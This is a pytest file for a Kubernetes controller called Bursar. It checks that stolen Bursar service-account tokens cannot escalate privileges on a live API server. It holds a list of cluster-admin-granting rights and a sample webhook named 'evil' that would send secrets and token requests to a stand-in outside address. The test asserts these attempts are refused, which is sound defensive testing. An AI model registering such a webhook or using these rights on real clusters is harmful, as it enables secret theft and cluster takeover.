"""What a thief of Bursar's accounts tries on a real API server, with every role applied: each way up is refused, and Bursar's own
writes pass. docs/webhook.md, "Worst case", says what is left."""

import pytest

from reactors.webhook.registration import MUTATING_PATH, PATH
from tests.cluster import notebooks, training
from tests.cluster.api import APPLY, MERGE, STRATEGIC, Api, ApiError
from tests.cluster.rights import MANIFESTS, may, token, waits_for_a_node

pytestmark = pytest.mark.kube

ACCOUNTS = ("bursar", "bursar-actor")
SYSTEM = ("kube-system", "kube-public", "kube-node-lease", "bursar-system")
PREFIX = "bursar.io/notebook-"
#: Rights that make an administrator of whoever has one of them.
POWERS = [
    *((f"{one}.admissionregistration.k8s.io", verb) for one in (
        "validatingwebhookconfigurations", "mutatingwebhookconfigurations", "validatingadmissionpolicies",
        "validatingadmissionpolicybindings", "mutatingadmissionpolicies", "mutatingadmissionpolicybindings",
    ) for verb in ("create", "update", "patch", "delete")),
    *((one, verb) for one in ("secrets", "configmaps") for verb in ("get", "list", "watch", "create", "patch")),
    *((f"{one}.rbac.authorization.k8s.io", verb) for one in ("roles", "clusterroles", "rolebindings", "clusterrolebindings")
      for verb in ("create", "patch", "bind", "escalate")),
    *((one, "impersonate") for one in ("users", "groups", "serviceaccounts", "uids")),
    *((one, "create") for one in ("serviceaccounts/token", "pods/exec", "pods/attach", "pods/portforward", "pods/proxy",
                                  "services/proxy", "nodes/proxy", "namespaces")),
    *((one, "patch") for one in ("namespaces", "nodes", "nodes/status", "pods/ephemeralcontainers", "pods/resize",
                                 "serviceaccounts",
                                 "deployments.apps/scale", "statefulsets.apps/scale", "replicasets.apps/scale", "replicasets.apps",
                                 "daemonsets.apps", "replicationcontrollers/scale", "cronjobs.batch", "persistentvolumes",
                                 "customresourcedefinitions.apiextensions.k8s.io", "apiservices.apiregistration.k8s.io")),
    *((f"certificatesigningrequests.certificates.k8s.io{one}", verb) for one, verb in (
        ("", "create"), ("/approval", "patch"), ("/status", "patch"))),
]  # fmt: skip


@pytest.fixture(scope="module")
def plane(start_module_plane):
    plane = start_module_plane()
    crds = MANIFESTS.parents[1] / "tests" / "cluster" / "crds"
    for path in (MANIFESTS / "crds", MANIFESTS / "rbac", MANIFESTS / "training", crds):
        plane.kubectl("apply", "--server-side", "-f", str(path))
    plane.kubectl("wait", "--for=condition=Established", "--timeout=60s", "crd", "--all")
    return plane


@pytest.fixture
def steal(plane):
    """Ask with the token of an account; the kind of what is answered, or the refusal."""
    tokens = {account: token(plane, account) for account in ACCOUNTS}

    def ask(method, path, body=None, kind=MERGE, account="bursar-actor"):
        api = Api(plane.url, tokens[account], str(plane.ca_file))
        content_type = kind if method == "PATCH" else "application/json"
        try:
            return api.request(method, path, body, content_type=content_type)["kind"]
        except ApiError as error:
            return str(error)

    return ask


@pytest.mark.parametrize("account", ACCOUNTS)
def test_no_right_of_an_account_makes_an_administrator(plane, account):
    names = {"webhookconfigurations": "bursar"}
    found = [
        (resource, verb)
        for resource, verb in POWERS
        for name in {"", *(n for word, n in names.items() if word in resource)}
        for namespace in ("default", "kube-system")
        if may(plane, account, resource, verb, namespace, name)
    ]

    assert found == []


@pytest.mark.parametrize("account", ACCOUNTS)
@pytest.mark.parametrize("path", [PATH, MUTATING_PATH], ids=["validating", "mutating"])
def test_no_account_points_reviews_of_secrets_at_an_address_of_its_own(plane, steal, account, path):
    kind = "ValidatingWebhookConfiguration" if path == PATH else "MutatingWebhookConfiguration"
    resources = ["secrets", "serviceaccounts/token"]
    rule = {"apiGroups": ["*"], "apiVersions": ["*"], "resources": resources, "operations": ["*"]}
    webhook = {
        "name": "evil.admission.bursar.io", "clientConfig": {"url": "https://192.0.2.1"}, "rules": [rule],
        "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Ignore",
    }  # fmt: skip
    body = {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": kind,
        "metadata": {"name": "bursar"},
    }
    body["webhooks"] = [webhook]
    collection = path.rpartition("/")[0]
    tried = [
        steal("PATCH", f"{path}?fieldManager=bursar&force=true", body, APPLY, account=account),
        *(steal("PATCH", path, body, how, account=account) for how in (MERGE, STRATEGIC)),
        steal("POST", collection, body, account=account),
        steal("PUT", path, body, account=account),
        steal("DELETE", path, account=account),
    ]

    assert ["403" in one for one in tried] == [True] * len(tried), tried


@pytest.mark.parametrize("where", SYSTEM)
def test_the_accounts_change_no_workload_in_a_system_namespace(plane, steal, where):
    for kind in notebooks.PATHS:
        plane.api.request(
            "POST", notebooks.PATHS[kind].format(where), notebooks.notebook(kind, "core")
        )
    pods = notebooks.PATHS["Pod"].format(where)
    plane.api.request("POST", pods, waits_for_a_node("mine"))
    marks = {
        "metadata": {"annotations": {f"{PREFIX}culled-by": "x", f"{PREFIX}replicas-before": "1"}}
    }
    owner = {
        "apiVersion": "kubeflow.org/v1",
        "kind": "TFJob",
        "name": "t",
        "uid": "u",
        "controller": True,
    }
    owned = {
        "name": "own",
        "labels": {"training.kubeflow.org/job-name": "t"},
        "ownerReferences": [owner],
    }
    spec = {"serviceAccountName": "default", "containers": [{"name": "main", "image": "x"}]}
    waits = {"type": "PodScheduled", "status": "False", "reason": "Unschedulable"}
    tried = {
        **{kind: steal("PATCH", f"{path.format(where)}/core", marks) for kind, path in notebooks.PATHS.items()},
        "evict": steal("POST", f"{pods}/core/eviction", {
            "apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": "core", "namespace": where}}),
        "bind": steal("POST", f"{pods}/mine/binding", {"metadata": {"name": "mine"}, "target": {"kind": "Node", "name": "mine"}}),
        "tell": steal("PATCH", f"{pods}/mine/status", {"status": {"conditions": [waits]}}),
        "make": steal("POST", pods, {"metadata": owned, "spec": spec}),
        "make a service": steal("POST", f"/api/v1/namespaces/{where}/services", {
            "metadata": owned, "spec": {"clusterIP": "None"}}),
    }  # fmt: skip
    if where == "bursar-system":
        # Pod Security may refuse the pod first.
        tried.pop("make")
    wrong = {name: said for name, said in tried.items() if "in system namespaces" not in said}

    assert wrong == {}


def test_replicas_change_only_of_what_culling_marked_and_back_to_what_they_were(
    plane, namespace, steal
):
    for kind in ("Deployment", "StatefulSet"):
        path = notebooks.PATHS[kind].format(namespace)
        for name in ("innocent", "stopped"):
            body = notebooks.notebook(kind, name)
            body["spec"]["replicas"] = 3
            plane.api.request("POST", path, body)

        def said(name, replicas=None, path=path, **notes):
            body = {
                "metadata": {
                    "annotations": {PREFIX + k.replace("_", "-"): v for k, v in notes.items()}
                }
            }
            body |= {} if replicas is None else {"spec": {"replicas": replicas}}
            return steal("PATCH", f"{path}/{name}", body)

        marks = {"culled_by": "d", "scaling": "2"}
        refused = [
            said("innocent", 0), said("innocent", 9), said("innocent", 0, **marks, replicas_before="3"),
            said("innocent", replicas_before="9", **marks), said("innocent", 9, replicas_before="9", restored_by="d"),
        ]  # fmt: skip
        assert [one for one in refused if "Bursar's account" not in one] == []
        assert said("stopped", **marks, replicas_before="3") == kind
        assert "the recorded number" in said("stopped", 1) and "the recorded number" in said(
            "stopped", 9
        )
        assert said("stopped", 0) == kind
        assert "no other number" in said("stopped", replicas_before="9")
        assert "the recorded number" in said("stopped", 3)
        assert said("stopped", restored_by="r", scaling="3") == kind
        assert "the recorded number" in said("stopped", 9) and "the recorded number" in said(
            "stopped", 2
        )
        assert said("stopped", 3) == kind


def test_a_pod_of_kube_scheduler_is_told_nothing(plane, namespace, steal):
    """And a binding carries no name of a scheduler: docs/webhook.md says so."""
    pods = notebooks.PATHS["Pod"].format(namespace)
    plane.api.request("POST", pods, notebooks.notebook("Pod", "other"))
    waits = {"type": "PodScheduled", "status": "False", "reason": "Unschedulable"}

    assert "kube-scheduler places" in steal(
        "PATCH", f"{pods}/other/status", {"status": {"nominatedNodeName": "n"}}
    )
    assert "kube-scheduler places" in steal(
        "PATCH", f"{pods}/other/status", {"status": {"conditions": [waits]}}
    )


def test_people_and_controllers_go_on_in_system_namespaces(plane):
    """The bystander: the policies look at Bursar's accounts alone."""
    path = notebooks.PATHS["Deployment"].format("kube-system")
    plane.api.request("POST", path, notebooks.notebook("Deployment", "dns"))
    scaled = plane.api.request(
        "PATCH", f"{path}/dns/scale", {"spec": {"replicas": 2}}, content_type=MERGE
    )
    made = plane.api.request(
        "POST",
        training.path_of("TFJob", "kube-system"),
        training.job("own", "TFJob", "kube-system"),
    )

    assert (scaled["spec"]["replicas"], made["kind"]) == (2, "TFJob")
